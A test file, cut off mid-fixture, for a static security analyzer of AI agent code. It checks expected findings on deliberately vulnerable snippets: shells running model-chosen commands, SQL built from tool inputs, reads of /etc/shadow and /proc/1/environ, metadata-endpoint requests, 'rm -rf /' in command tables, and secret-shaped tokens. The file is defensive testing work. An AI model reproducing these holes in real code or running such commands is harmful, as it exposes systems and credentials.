/**
 * False-positive classes seen on real agent code, each beside the true positive it must keep:
 * whole files through the real front ends and every rule, with the default configuration.
 */
import { describe, expect, it } from 'vitest';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { analyzeFile, type FileJob } from '../../src/analysis/analyze.js';
import { CHECK_NAMES } from '../../src/analysis/checks/index.js';
import { factsFor, languageOf } from '../../src/analysis/engine.js';
import { analyzeProject } from '../../src/analysis/project.js';
import { activeRules } from '../../src/analysis/run.js';
import { defaultConfig, resolveConfigObject } from '../../src/config/load.js';
import type { ResolvedConfig } from '../../src/config/types.js';
import { holesAreIdentifiers, holesInQuotedIdentifiers, readsCatalogOnly } from '../../src/policy/sql.js';
import { loadRules } from '../../src/policy/rules.js';

const rules = loadRules(undefined, CHECK_NAMES);

async function check(rel: string, text: string, config: ResolvedConfig = defaultConfig('/p')): Promise<string[]> {
  const r = await analyzeFile({ rel, text, language: languageOf(rel)! }, activeRules(rules, config), config);
  return r.findings.map((f) => `${f.line} ${f.ruleId} ${f.severity}`);
}

describe('secrets', () => {
  it('values equal to their own name, vendor documentation keys and file names are not credentials (Python)', async () => {
    const src = [
      'FEEDBACK$PASSWORD = "FEEDBACK$PASSWORD"',
      'LABELS = {"api_key": "API_KEY", "password": "Password"}',
      'AWS_SECRET_ACCESS_KEY = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"',
      'aws_access_key_id = "AKIAIOSFODNN7EXAMPLE"',
      'OPENAI_API_KEY = "sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"',
      'api_key = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"',
      'key_file = "service_account_key.json"',
      'token_url = "https://oauth2.googleapis.com/token"',
      'client_token = "sk-proj-4fG7hJ2kL9mN3pQ5rS8tU1vW6xY0zA2bC4dE6fG8hJ0kL2mN"',
      'LANGSMITH_API_KEY = "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"',
    ].join('\n') + '\n';
    expect(await check('agent/settings.py', src)).toEqual(['9 hardcoded-secret high', '10 hardcoded-secret high']);
  });

  it('the same in TypeScript', async () => {
    const src = [
      "export const FEEDBACK_PASSWORD = 'feedback.password';",
      "const AWS_SECRET_ACCESS_KEY = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';",
      "const tokenFile = 'github_token.txt';",
      "const ghToken = 'ghp_4fG7hJ2kL9mN3pQ5rS8tU1vW6xY0zA2bC4dE';",
      // GitHub's OAuth guide's example answer, and its body reused after another prefix
      "const oauth = 'gho_16C7e42F292c6912E7710c838347Ae178B4a';",
      "const userToken = 'ghu_16C7e42F292c6912E7710c838347Ae178B4a';",
    ].join('\n') + '\n';
    expect(await check('src/settings.ts', src)).toEqual(['4 hardcoded-secret high']);
  });

  it('a live-format key in a test keeps its severity and fails the gate; a generic one is capped', async () => {
    const config = defaultConfig('/p');
    const src = 'SLACK = "xoxb-2847561930-4728561930174-Qw8rT5yU2iO9pA3sD6fG1hJ4"\npassword = "s3cr3tP4ssw0rd!xY"\n';
    const r = await analyzeFile({ rel: 'tests/test_bot.py', text: src, language: 'python' }, activeRules(rules, config), config);
    expect(r.findings.map((f) => [f.line, f.severity, f.context, f.gating])).toEqual([
      [1, 'high', 'test', true],
      [2, 'low', 'test', false],
    ]);
  });

  it('an AWS key ID alone in a test or a script is judged by its context; its secret keeps its severity everywhere', async () => {
    const config = defaultConfig('/p');
    const src = [
      'if "SCRUBBED" in redacted and "ASIAVEMKNXYDQ6ZF4HY7" not in redacted:',
      '    print("ok")',
      'aws_secret_access_key = "Zq8vT2mR9xK4pL7wN3bY6cH1jF5dS0gA2eU8iO4r"',
      '',
    ].join('\n');
    // (a script keeps the rule's severity without failing the gate; a test is capped at low)
    for (const [rel, idSeverity] of [
      ['scripts/scrub_cassette.py', 'high'],
      ['tests/test_aws.py', 'low'],
    ]) {
      const r = await analyzeFile({ rel: rel!, text: src, language: 'python' }, activeRules(rules, config), config);
      expect(r.findings.map((f) => [f.line, f.severity, f.gating]), rel).toEqual([
        [1, idSeverity, false],
        [3, 'high', true],
      ]);
    }
    // in production code the key ID is still reported at the rule's severity
    const prod = await analyzeFile({ rel: 'app/aws.py', text: src, language: 'python' }, activeRules(rules, config), config);
    expect(prod.findings.map((f) => [f.line, f.severity])).toEqual([
      [1, 'high'],
      [3, 'high'],
    ]);
  });

  it('a rule set for a context in the configuration wins over keeping a live-format key in every context', async () => {
    const config = resolveConfigObject({ contexts: { test: { 'hardcoded-secret': 'low' } } }, '/p', '/p/agentos.config.yaml');
    const src = 'SLACK = "xoxb-2847561930-4728561930174-Qw8rT5yU2iO9pA3sD6fG1hJ4"\n';
    const r = await analyzeFile({ rel: 'tests/test_bot.py', text: src, language: 'python' }, activeRules(rules, config), config);
    expect(r.findings.map((f) => [f.line, f.severity, f.context, f.gating])).toEqual([[1, 'low', 'test', false]]);
    // production code is not touched by a test setting
    const prod = await analyzeFile({ rel: 'app/bot.py', text: src, language: 'python' }, activeRules(rules, config), config);
    expect(prod.findings.map((f) => [f.severity, f.gating])).toEqual([['high', true]]);
  });
});

describe('server-side request forgery', () => {
  it('untrusted data only in the path of a configured base URL is not SSRF; in the host it is (Python)', async () => {
    const src = `import requests
from crewai.tools import BaseTool

class StatusTool(BaseTool):
    name: str = "status"
    def _run(self, crew_id: str) -> str:
        ok = requests.get(f"{self.api_url}/status/{crew_id}").text
        return requests.get(f"https://{crew_id}.example.org/status").text
`;
    expect(await check('crew/status.py', src)).toEqual(['8 egress-untrusted-url critical']);
  });

  it('a tool parameter passed to an unrelated constructor argument does not taint the URL a method returns', async () => {
    const src = `import requests
from langchain_core.tools import tool

class Client:
    def __init__(self, token: str, base: str = "https://api.example.com"):
        self.token = token
        self.base = base

    def endpoint(self, name):
        return self.base + "/v1/" + name

@tool
def lookup(token: str) -> str:
    """Look up."""
    return requests.get(Client(token).endpoint("status")).text
`;
    expect(await check('agent/lookup.py', src)).toEqual([]);
  });

  it('the same in TypeScript: a configured base, and a Set of hosts checked before use', async () => {
    const src = `import { tool } from 'ai';
import { z } from 'zod';
const HOSTS = new Set(['api.github.com']);
const apiUrl = process.env.API_URL;
export const get = tool({
  description: 'Get',
  parameters: z.object({ u: z.string(), id: z.string() }),
  execute: async ({ u, id }) => {
    await fetch(\`\${apiUrl}/status/\${id}\`);
    await fetch(\`\${apiUrl}?q=\${id}\`);
    const search = new URL(\`https://search.example.org/v1?q=\${encodeURIComponent(id)}\`);
    await fetch(search);
    if (!HOSTS.has(new URL(u).hostname)) throw new Error('host not allowed');
    return fetch(u);
  },
});
export const raw = tool({
  description: 'Raw',
  parameters: z.object({ u: z.string() }),
  execute: async ({ u }) => fetch(u),
});
`;
    expect(await check('src/tools.ts', src)).toEqual(['20 egress-untrusted-url critical']);
  });
});

describe('code execution', () => {
  it('compile() only checked for a SyntaxError runs nothing; exec(compile(...)) does', async () => {
    const syntaxOnly = `from langchain_core.tools import tool

@tool
def check_syntax(src: str) -> str:
    """Check code."""
    try:
        compile(src, "<tool>", "exec")
        return "ok"
    except SyntaxError as e:
        return str(e)
`;
    expect(await check('agent/syntax.py', syntaxOnly)).toEqual([]);
    const runs = syntaxOnly.replace('compile(src, "<tool>", "exec")', 'exec(compile(src, "<tool>", "exec"))');
    expect(await check('agent/syntax.py', runs)).toEqual(['7 code-eval critical']);
  });
});

describe('guards', () => {
  it('membership in a collection the program built, `root in p.parents` and hostname checks sanitize (Python)', async () => {
    const src = `import subprocess
from pathlib import Path
from urllib.parse import urlparse
import requests
from langchain_core.tools import tool
ROOT = Path("/srv/work").resolve()
HOSTS = {"api.github.com"}

def build_enabled():
    return {"ls", "git"}

@tool
def read(name: str) -> str:
    """Read."""
    p = (ROOT / name).resolve()
    if ROOT not in p.parents:
        raise ValueError("outside")
    return p.read_text()

@tool
def fetch(u: str) -> str:
    """Fetch."""
    if urlparse(u).hostname not in HOSTS:
        raise ValueError("no")
    return requests.get(u).text

@tool
def run(prog: str) -> str:
    """Run."""
    enabled = build_enabled()
    if prog not in enabled:
        raise ValueError("no")
    return subprocess.run([prog]).stdout

@tool
def substring(name: str) -> str:
    """A substring test is no guard."""
    if "/" in name:
        raise ValueError("no")
    return open(name).read()
`;
    expect(await check('agent/tools.py', src)).toEqual(['40 file-untrusted-path critical']);
  });

  it('JS path.relative not starting with `..` sanitizes', async () => {
    const src = `import path from 'node:path';
import fs from 'node:fs';
import { tool } from 'ai';
import { z } from 'zod';
const ROOT = path.resolve('/srv/work');
export const read = tool({
  description: 'Read',
  parameters: z.object({ name: z.string() }),
  execute: async ({ name }) => {
    const full = path.resolve(ROOT, name);
    const rel = path.relative(ROOT, full);
    if (rel.startsWith('..') || path.isAbsolute(rel)) throw new Error('outside');
    return fs.readFileSync(full, 'utf8');
  },
});
`;
    expect(await check('src/read.ts', src)).toEqual([]);
  });
});

describe('subprocess', () => {
  it('which() of a constant, constant command tables and wrappers called with constants are not dynamic', async () => {
    const src = `import asyncio, shutil, subprocess

def install(args):
    uv = shutil.which("uv")
    subprocess.run([uv, "pip", "install", *args])

CMDS = {"lint": ["ruff", "check"], "fmt": ["ruff", "format"]}
def task(name):
    subprocess.run(CMDS[name])

MIXED = {"a": ["ruff"], "b": ["rm", "-rf", "/"]}
def mixed(name):
    subprocess.run(MIXED[name])

def _run(cmd):
    return subprocess.run(cmd, shell=True)

def status():
    _run("git status")
    _run("ls -la")

async def show(ref):
    return await asyncio.create_subprocess_exec("git", "show", "--", ref)
`;
    // the wrapper's shell is still reported, graded as a constant command line; a mixed table is dynamic
    expect(await check('agent/dev.py', src)).toEqual(['13 subprocess-dynamic-command low', '16 subprocess-shell low']);
  });

  it('the same in TypeScript: a constant command table looked up with a tool parameter', async () => {
    const src = `import { execFileSync } from 'node:child_process';
import { tool } from 'ai';
import { z } from 'zod';
const TASKS: Record<string, string[]> = { lint: ['eslint', '.'], fix: ['eslint', '--fix', '.'] };
const ANY: Record<string, string[]> = { lint: ['eslint', '.'], wipe: ['rm', '-rf', '/'] };
export const run = tool({
  description: 'Run a task',
  parameters: z.object({ task: z.string() }),
  execute: async ({ task }) => {
    execFileSync(TASKS[task][0], TASKS[task].slice(1));
    return execFileSync(ANY[task][0], ANY[task].slice(1));
  },
});
`;
    expect(await check('src/tasks.ts', src)).toEqual(['11 subprocess-dynamic-command medium']);
  });

  it('a host shell running a model-chosen command is critical (Python and TypeScript)', async () => {
    const py = `import subprocess
from langchain_core.tools import tool

@tool
def bash(command: str) -> str:
    """Run a command."""
    return subprocess.run(["bash", "-c", command], capture_output=True).stdout
`;
    expect(await check('agent/bash.py', py)).toEqual(['7 subprocess-shell critical']);
    const ts = `import { spawn } from 'node:child_process';
import { tool } from 'ai';
import { z } from 'zod';
export const sh = tool({
  description: 'Shell',
  parameters: z.object({ command: z.string() }),
  execute: async ({ command }) => spawn('bash', ['-c', command]),
});
`;
    expect(await check('src/sh.ts', ts)).toEqual(['7 subprocess-shell critical']);
  });
});

describe('SQL with a dynamic identifier', () => {
  it('only a configured table name spliced in, values bound: low; an untrusted table name: critical', async () => {
    const src = `import sqlite3
from langchain_core.tools import tool

class Store:
    def __init__(self, table_name: str = "messages"):
        self.table = table_name
        self.conn = sqlite3.connect("x.db")

    def get(self, session_id):
        return self.conn.execute(f"SELECT * FROM {self.table} WHERE session_id = ?", (session_id,)).fetchall()

    def where(self, clause):
        return self.conn.execute(f"SELECT * FROM messages WHERE {clause}").fetchall()

conn = sqlite3.connect("x.db")

@tool
def count(table: str) -> int:
    """Count rows."""
    return conn.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]
`;
    expect(await check('agent/store.py', src)).toEqual(['10 sql-injection low', '13 sql-injection medium', '20 sql-injection critical']);
  });

  it('the same in TypeScript', async () => {
    const src = `import pg from 'pg';
const pool = new pg.Pool();
const table = process.env.TABLE ?? 'messages';
export async function get(id: string) {
  return pool.query(\`SELECT * FROM \${table} WHERE id = $1\`, [id]);
}
export async function find(where: string) {
  return pool.query(\`SELECT * FROM messages WHERE \${where}\`);
}
`;
    expect(await check('src/store.ts', src)).toEqual(['5 sql-injection low', '8 sql-injection medium']);
  });

  it.each([
    ['SELECT * FROM __agentos_hole_0__ WHERE id = ?', true],
    ['INSERT INTO "__agentos_hole_0__" (a, b) VALUES (?, ?)', true],
    ['SELECT * FROM app.__agentos_hole_0__ ORDER BY __agentos_hole_1__', true],
    ['SELECT * FROM t WHERE name = \'__agentos_hole_0__\'', false],
    ['SELECT * FROM t WHERE id = __agentos_hole_0__', false],
    ['SELECT * FROM t WHERE __agentos_hole_0__', false],
    ['SELECT 1', false],
    ['UPDATE __agentos_hole_0__ SET __agentos_hole_1__ = %s WHERE __agentos_hole_2__ = %s', true],
    ['SELECT __agentos_hole_0__, __agentos_hole_1__ FROM __agentos_hole_2__ WHERE id = $1', true],
    ['INSERT INTO t (a) VALUES (__agentos_hole_0__)', false],
    ['SELECT * FROM t WHERE a = 1 AND __agentos_hole_0__', false],
    ['CREATE TABLE __agentos_hole_0__ (id INTEGER, sid TEXT REFERENCES __agentos_hole_1__ (sid))', true],
    ['CREATE INDEX IF NOT EXISTS idx___agentos_hole_0___sid ON __agentos_hole_1__ (sid)', true],
    ['SELECT * FROM t WHERE id = x__agentos_hole_0__', false],
    // a list of values, not of columns
    ['SELECT * FROM t WHERE k IN (__agentos_hole_0__)', false],
    ['SELECT * FROM t WHERE k in(__agentos_hole_0__, __agentos_hole_1__)', false],
    ['SELECT * FROM __agentos_hole_0__ WHERE k IN (?, ?)', true],
    // a bound parameter's name is a name (`SET {col} = :{col}`), as is a column defined with its type
    ['UPDATE t SET __agentos_hole_0__ = :__agentos_hole_1__ WHERE id = :id', true],
    ['UPDATE t SET __agentos_hole_0__ = CAST(:__agentos_hole_1__ AS jsonb) WHERE id = :id', true],
    ['UPDATE t SET __agentos_hole_0__ = %(__agentos_hole_1__)s WHERE id = %(id)s', true],
    ['UPDATE t SET a = __agentos_hole_0__::jsonb WHERE id = :id', false],
    ['CREATE TABLE __agentos_hole_0__ (__agentos_hole_1__ __agentos_hole_2__);', true],
    ['CREATE TABLE IF NOT EXISTS "__agentos_hole_0__" ( "__agentos_hole_1__" TEXT )', true],
    ['CREATE TABLE t (a TEXT DEFAULT __agentos_hole_0__)', false],
    ['CREATE TABLE t (a INT CHECK (a > __agentos_hole_0__))', false],
    ['CREATE TABLE t AS SELECT * FROM x WHERE a = __agentos_hole_0__', false],
    // a qualifier before a name: `{alias}.id`, `{schema}.items`
    ['SELECT count(*) FROM artifacts AS __agentos_hole_0__ WHERE __agentos_hole_1__.id = :id', true],
    ['SELECT * FROM t WHERE id = __agentos_hole_0__.5', false],
  ])('%s: holes only where identifiers go = %s', (text, expected) => {
    expect(holesAreIdentifiers(text, '__agentos_hole_')).toBe(expected);
  });

  it.each([
    ['CREATE TABLE "__agentos_hole_0__" AS SELECT * FROM read_csv(?)', [0]],
    ['SELECT * FROM "t___agentos_hole_0__" WHERE a = __agentos_hole_1__', [0]],
    ['SELECT * FROM "a""__agentos_hole_0__" JOIN __agentos_hole_1__ ON true', [0]],
    ['SELECT * FROM t WHERE name = \'"__agentos_hole_0__"\'', []],
    ['SELECT * FROM __agentos_hole_0__', []],
  ])('%s: holes inside a double-quoted identifier = %j', (text, expected) => {
    expect([...holesInQuotedIdentifiers(text, '__agentos_hole_')]).toEqual(expected);
  });
});

describe('files outside the sandbox', () => {
  const src = `def facts():
    with open("/proc/meminfo") as f:
        f.read()
    return open("/etc/os-release").read()

def tamper():
    open("/etc/hosts", "w").write("x")
    return open("/etc/shadow").read()
`;
  it('with no sandbox configured, reading system facts is not a finding; writing and other reads are', async () => {
    expect(await check('agent/sys.py', src)).toEqual(['7 file-outside-sandbox high', '8 file-outside-sandbox medium']);
  });

  it('process names, block devices and release files are system facts too; their neighbours are not (Python and TypeScript)', async () => {
    const py = `import glob, os
def disks():
    names = os.listdir("/sys/block") + os.listdir("/dev/disk/by-uuid") + os.listdir("/dev")
    init = open("/proc/1/comm").read() + open("/etc/release").read()
    # (the login banner naming the distribution, read when there is no os-release: MindsDB's log set-up)
    init += open("/etc/issue").read()
    return names, init, glob.glob("/proc/[0-9]*/comm")
def leak():
    os.listdir("/dev/shm")
    open("/sys/block/sda/queue/scheduler", "w").write("none")
    return open("/proc/1/environ").read()
`;
    expect(await check('agent/disks.py', py)).toEqual(['9 file-outside-sandbox medium', '10 file-outside-sandbox high', '11 file-outside-sandbox medium']);
    const ts = `import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
export function disks() {
  return [readdirSync('/sys/block'), readFileSync('/proc/1/comm', 'utf8'), readdirSync('/dev/disk/by-id')];
}
export function leak() {
  writeFileSync('/sys/block/sda/queue/scheduler', 'none');
  return readFileSync('/proc/1/environ', 'utf8');
}
`;
    expect(await check('src/disks.ts', ts)).toEqual(['6 file-outside-sandbox high', '7 file-outside-sandbox medium']);
  });

  it('with a sandbox configured, every path outside it is', async () => {
    const config = resolveConfigObject({ sandbox: { roots: ['./workspace'] } }, '/p', '/p/agentos.config.yaml');
    expect(await check('agent/sys.py', src, config)).toEqual([
      '2 file-outside-sandbox medium',
      '4 file-outside-sandbox medium',
      '7 file-outside-sandbox high',
      '8 file-outside-sandbox medium',
    ]);
  });
});

describe('egress to private and metadata addresses under the default configuration', () => {
  it('is reported: metadata high, private medium, loopback low; public hosts are not', async () => {
    const src = `import requests
def calls():
    requests.get("http://169.254.169.254/latest/meta-data/")
    requests.get("http://10.0.0.5/admin")
    requests.get("http://localhost:8080/admin")
    requests.get("https://api.github.com/repos")
`;
    expect(await check('agent/net.py', src)).toEqual(['3 egress-not-allowlisted high', '4 egress-not-allowlisted medium', '5 egress-not-allowlisted low']);
    const ts = "export const meta = () => fetch('http://169.254.169.254/latest/meta-data/');\nexport const ok = () => fetch('https://api.github.com/');\n";
    expect(await check('src/net.ts', ts)).toEqual(['1 egress-not-allowlisted high']);
  });
});

describe('shell scripts', () => {
  it('two rules on one line are both reported', async () => {
    // and the chmod of a path outside the project (the default sandbox) is a third
    const found = await check('setup.sh', '#!/bin/bash\nsudo chmod 777 /srv/x\n');
    // (sudo of a command written out in full is low since the fiftieth round: still reported)
    expect(found.filter((f) => f.startsWith('2 shell-'))).toEqual(['2 shell-chmod-world-writable medium', '2 shell-sudo low']);
    expect(found.filter((f) => !f.startsWith('2 shell-')).map((f) => f.split(' ')[1])).toEqual(['file-outside-sandbox']);
  });

  it('a construct the grammar cannot read is skipped, named, and the rest analyzed', async () => {
    const config = defaultConfig('/p');
    const text = '#!/bin/bash\nexec 3<> "$PIPE"\nrm -rf "$DIR/"\n';
    const r = await analyzeFile({ rel: 'run.sh', text, language: 'shell' }, activeRules(rules, config), config);
    expect(r.findings.map((f) => `${f.line} ${f.ruleId}`)).toEqual(['3 shell-rm-rf-variable']);
    expect(r.error).toBe('not analyzed: line 2 `exec 3<> "$PIPE"`: bash accepts it, the shell grammar does not read this construct; the rest of the script was analyzed');
  });
});

describe('unsafe deserialization', () => {
  it('a safe loader imported under one name in a try/except is safe; an unsafe one under that name is not', async () => {
    const safe = `import yaml
try:
    from yaml import CSafeLoader as SafeLoader
except ImportError:
    from yaml import SafeLoader

def load(stream):
    return yaml.load(stream, Loader=SafeLoader)
`;
    expect(await check('app/config.py', safe)).toEqual([]);
    const unsafe = safe.replace('from yaml import SafeLoader', 'from yaml import UnsafeLoader as SafeLoader');
    expect(await check('app/config.py', unsafe)).toEqual(['8 code-unsafe-deserialization high']);
  });
});

describe('SQL a library builds from its own settings', () => {
  it('quoted identifiers, settings and constants only: low or nothing; a tool parameter anywhere: critical (Python)', async () => {
    const src = `import sqlite3
from langchain_core.tools import tool

class Cache:
    def __init__(self, conn, table: str = "cache"):
        self.conn = conn
        self.table = table
        self.columns = ", ".join(["key", "value"])

    def describe(self, cursor, table_name):
        cursor.execute("PRAGMA table_info(%s)" % self.conn.ops.quote_name(table_name))
        cursor.execute("DELETE FROM meta WHERE t = %s" % self.geo_quote_name(table_name))
        cursor.execute("SELECT * FROM %s" % self.unquote_name(table_name))

    def read(self, keys):
        return self.conn.execute(f"SELECT {self.columns} FROM {self.table} WHERE key IN (?, ?)", keys)

    def delete_collection(self):
        self.conn.execute(f"DROP TABLE {self.table}")

    def drop_everything(self):
        self.conn.execute("DROP TABLE users")

conn = sqlite3.connect("x.db")

@tool
def drop_table(table: str) -> str:
    """Drop a table."""
    conn.execute(f"DROP TABLE {table}")
    return "ok"

@tool
def lookup(name: str) -> list:
    """Find rows."""
    return conn.execute(f"SELECT {Cache(conn).columns} FROM cache WHERE key = '{name}'").fetchall()
`;
    // (line 13: `unquote_name` quotes nothing; a name a caller passes, spliced where a name goes, is low)
    expect(await check('agent/cache.py', src)).toEqual([
      '13 sql-injection low',
      '16 sql-injection low',
      '19 sql-destructive low',
      '19 sql-injection low',
      '22 sql-destructive high',
      '29 sql-destructive high',
      '29 sql-injection critical',
      '35 sql-injection critical',
    ]);
  });

  it('the same in TypeScript', async () => {
    const src = `import pg from 'pg';
import { tool } from 'ai';
import { z } from 'zod';
const pool = new pg.Pool();
export class Store {
  private columns = ['id', 'text'].join(', ');
  constructor(private tableName: string = 'documents') {}
  async describe(client: any, name: string) {
    return client.query(\`SELECT * FROM \${client.escapeIdentifier(name)} LIMIT 1\`);
  }
  async add(id: string, text: string) {
    return pool.query(\`INSERT INTO \${this.tableName} (\${this.columns}) VALUES ($1, $2)\`, [id, text]);
  }
  async deleteCollection() {
    return pool.query(\`DROP TABLE \${this.tableName}\`);
  }
}
export const dropTable = tool({
  description: 'Drop a table',
  parameters: z.object({ table: z.string() }),
  execute: async ({ table }) => pool.query(\`DROP TABLE \${table}\`),
});
`;
    expect(await check('src/store.ts', src)).toEqual(['12 sql-injection low', '15 sql-destructive low', '15 sql-injection low', '21 sql-destructive high', '21 sql-injection critical']);
  });
});

describe('placeholder lists', () => {
  it('a constant placeholder repeated for each value is not SQL built from data; the values themselves are (Python and TypeScript)', async () => {
    const py = `import sqlite3
conn = sqlite3.connect("x.db")
def get_many(keys):
    return conn.execute("SELECT * FROM t WHERE k IN (%s)" % ", ".join(["?"] * len(keys)), keys).fetchall()
def get_raw(keys):
    return conn.execute("SELECT * FROM t WHERE k IN (%s)" % ", ".join(keys)).fetchall()
`;
    expect(await check('agent/many.py', py)).toEqual(['6 sql-injection medium']);
    const ts = `import pg from 'pg';
const pool = new pg.Pool();
export async function getMany(keys: string[]) {
  return pool.query(\`SELECT * FROM t WHERE k IN (\${new Array(keys.length).fill('?').join(', ')})\`, keys);
}
export async function getRaw(keys: string[]) {
  return pool.query(\`SELECT * FROM t WHERE k IN (\${keys.join(', ')})\`);
}
export async function byMap(ids: string[]) {
  await pool.query(\`DELETE FROM t WHERE id IN (\${ids.map(() => '?').join(',')})\`, ids);
  return pool.query(\`DELETE FROM t WHERE id IN (\${ids.map((_, i) => \`$\${i + 1}\`).join(', ')})\`, ids);
}
export async function byValue(ids: string[]) {
  return pool.query(\`DELETE FROM t WHERE id IN (\${ids.map((id) => \`'\${id}'\`).join(', ')})\`);
}
`;
    expect(await check('src/many.ts', ts)).toEqual(['7 sql-injection medium', '14 sql-injection medium']);
  });
});

describe('a program named by the settings an object was made with', () => {
  it("Ansible's get_bin_path of a constant is that program, as shutil.which is", async () => {
    const src = `import subprocess
from ansible.module_utils.common.process import get_bin_path

def checkout(path, version):
    git = get_bin_path("git")
    subprocess.check_call([git, "checkout", "--", version], cwd=path)

def run(tool, args):
    subprocess.check_call([tool, *args])
`;
    expect(await check('lib/scm.py', src)).toEqual(['9 subprocess-dynamic-command low']);
  });


  it('is low; from a tool parameter it keeps its severity (Python)', async () => {
    const src = `import subprocess
from langchain_core.tools import tool

class ServerProcess:
    def __init__(self, command: str, args: list):
        self.command = command
        self.args = args

    def start(self):
        return subprocess.Popen([self.command, *self.args])

@tool
def launch(program: str) -> str:
    """Start a program."""
    return subprocess.run([program]).stdout
`;
    expect(await check('agent/server.py', src)).toEqual(['10 subprocess-dynamic-command low', '15 subprocess-dynamic-command critical']);
  });

  it('the same in TypeScript', async () => {
    const src = `import { spawn } from 'node:child_process';
import { tool } from 'ai';
import { z } from 'zod';
export class StdioTransport {
  constructor(private params: { command: string; args: string[] }) {}
  start() {
    return spawn(this.params.command, this.params.args);
  }
}
export const launch = tool({
  description: 'Start a program',
  parameters: z.object({ program: z.string() }),
  execute: async ({ program }) => spawn(program, []),
});
`;
    expect(await check('src/stdio.ts', src)).toEqual(['7 subprocess-dynamic-command low', '13 subprocess-dynamic-command critical']);
  });
});

describe('agent repositories, third round: programs fixed by constant arguments', () => {
  it('a runner of a constant script or inline code passes its dynamic arguments as data; a model-chosen program or code is not', async () => {
    const src = `import subprocess
from langchain_core.tools import tool

CHECK = "import sys; print(len(sys.argv))"

def evaluate(rounds: int, model: str):
    subprocess.run(["uv", "run", "score", str(rounds), model], check=True)
    subprocess.run(["uv", "run", "python", "-c", CHECK, model], check=True)
    subprocess.run(["bash", "bin/bump.sh", model], check=True)

@tool
def launch(target: str) -> str:
    """Start something."""
    subprocess.run(["uv", "run", target])
    subprocess.run(["python3", "-c", target])
    return subprocess.run(["sh", "-c", "echo $0", target]).stdout
`;
    // the program or the code is the model's: critical; the model's text as data of fixed code: its arguments are reported
    expect(await check('agent/runner.py', src)).toEqual(['14 subprocess-shell critical', '15 subprocess-shell critical', '16 subprocess-dynamic-command medium']);
  });

  it('one of two constant programs, an argv list grown on one path, a lookup helper named `which`, a constant file name in a configured directory', async () => {
    const src = `import os, subprocess
from pathlib import Path
from langchain_core.tools import tool
from .lookup import which

def search(fast: bool, word: str):
    subprocess.run(["rg" if fast else "grep", "-n", "--", word, "."])

def sync(extra: list[str]):
    argv = ["uv", "sync"]
    if extra:
        argv.extend(extra)
    subprocess.run(argv)

def apply_patch(f: str):
    exe = which("patch")
    subprocess.run([exe, "-i", f])

def version():
    home = os.environ.get("PWSH_HOME", "/opt/pwsh")
    subprocess.run([str(Path(home) / "pwsh"), "--version"])

@tool
def run_in(folder: str) -> str:
    """Run the folder's tool."""
    shell = "bash" if folder else "sh"
    subprocess.run([shell, "-c", folder])
    return subprocess.run([str(Path(folder) / "tool"), "--help"]).stdout
`;
    expect(await check('agent/programs.py', src)).toEqual(['27 subprocess-shell critical', '28 subprocess-dynamic-command critical']);
  });

  it('a constant argv whose shell flag is a platform test is that argv (allowed), a loop over constant command lines is low; a dynamic argv with that flag is a dynamic program', async () => {
    const src = `import os, subprocess

def package():
    subprocess.run(["npm", "install"], shell=os.name == "nt", check=True)

def prepare():
    for line in ["apt-get update", "apt-get install -y curl"]:
        subprocess.run(line, shell=True, check=True)

def build(argv):
    subprocess.run(argv, shell=os.name == "nt")
`;
    expect(await check('agent/build_steps.py', src)).toEqual(['8 subprocess-shell low', '11 subprocess-dynamic-command low']);
  });

  it('a shell flag named for a platform test (`use_shell = is_windows`), over several lines or in parentheses, is that test; a flag the caller chooses is not', async () => {
    const py = `import os, platform, subprocess, sys

def install(npm_cmd):
    is_windows = platform.system() == 'Windows'
    use_shell = is_windows
    subprocess.run(
        [npm_cmd, '--version'],
        capture_output=True,
        shell=use_shell,
    )

def inspect(npx_cmd, args):
    shell = sys.platform == "win32"
    subprocess.run([npx_cmd, "inspector"] + args, check=True, shell=shell)

def deploy(argv):
    subprocess.run(argv, shell=(os.name == "nt"))

def other(argv, flag):
    use_shell = flag
    subprocess.run(argv, shell=use_shell)
`;
    expect(await check('agent/installer.py', py)).toEqual([
      '6 subprocess-dynamic-command low',
      '14 subprocess-dynamic-command low',
      '17 subprocess-dynamic-command low',
      '21 subprocess-shell medium',
    ]);
    const ts = `import { spawn } from 'node:child_process';
import { platform } from 'node:os';

export function openDiff(diff: { command: string; args: string[] }) {
  return spawn(diff.command, diff.args, {
    stdio: 'inherit',
    shell: process.platform === 'win32',
  });
}

export function install(command: string, args: string[]) {
  return spawn(command, args, {
    env: process.env,
    shell: platform() === 'win32',
  });
}
`;
    expect(await check('src/editor.ts', ts)).toEqual(['5 subprocess-dynamic-command low', '12 subprocess-dynamic-command low']);
  });

  it('a shell line from configuration or settings is low, from a parameter medium, from a tool parameter critical', async () => {
    const src = `import os, subprocess
from langchain_core.tools import tool

class Workspace:
    def __init__(self, root: str):
        self.root = root

    def prepare(self):
        user = os.environ.get("SANDBOX_USER", "agent")
        subprocess.run(f"mkdir -p {self.root} && chown {user} {self.root}", shell=True)

def checkout(repo_dir: str, commit: str):
    subprocess.run(f"git -C {repo_dir} checkout {commit}", shell=True)

@tool
def grep(pattern: str) -> str:
    """Search."""
    return subprocess.run(f"grep -r {pattern} .", shell=True, capture_output=True).stdout
`;
    expect(await check('agent/workspace.py', src)).toEqual(['10 subprocess-shell low', '13 subprocess-shell medium', '18 subprocess-shell critical']);
  });
});

describe('agent repositories, third round: guards, system facts, published keys, injected dependencies', () => {
  it('membership in a set read through a configured connection or in an UPPER_CASE constant guards; in a set the tool filled it does not', async () => {
    const src = `import json
import pymysql
from crewai.tools import BaseTool
from .levels import LEVELS

class TableTool(BaseTool):
    name: str = "tables"

    def __init__(self, host: str, tables: list[str]):
        super().__init__()
        self.conn = pymysql.connect(host=host)
        self._describe(tables)

    def _describe(self, tables: list[str]) -> None:
        with self.conn.cursor() as cur:
            cur.execute("SHOW TABLES")
            known = {row[0] for row in cur.fetchall()}
            for table in tables:
                if table not in known:
                    raise ValueError(table)
                cur.execute(f"SHOW COLUMNS FROM {table}")

    def _run(self, level: str, table: str) -> str:
        if level not in LEVELS:
            raise ValueError(level)
        with self.conn.cursor() as cur:
            cur.execute(f"SELECT * FROM audit_{level}")
            seen = set(json.loads(table))
            if table in seen:
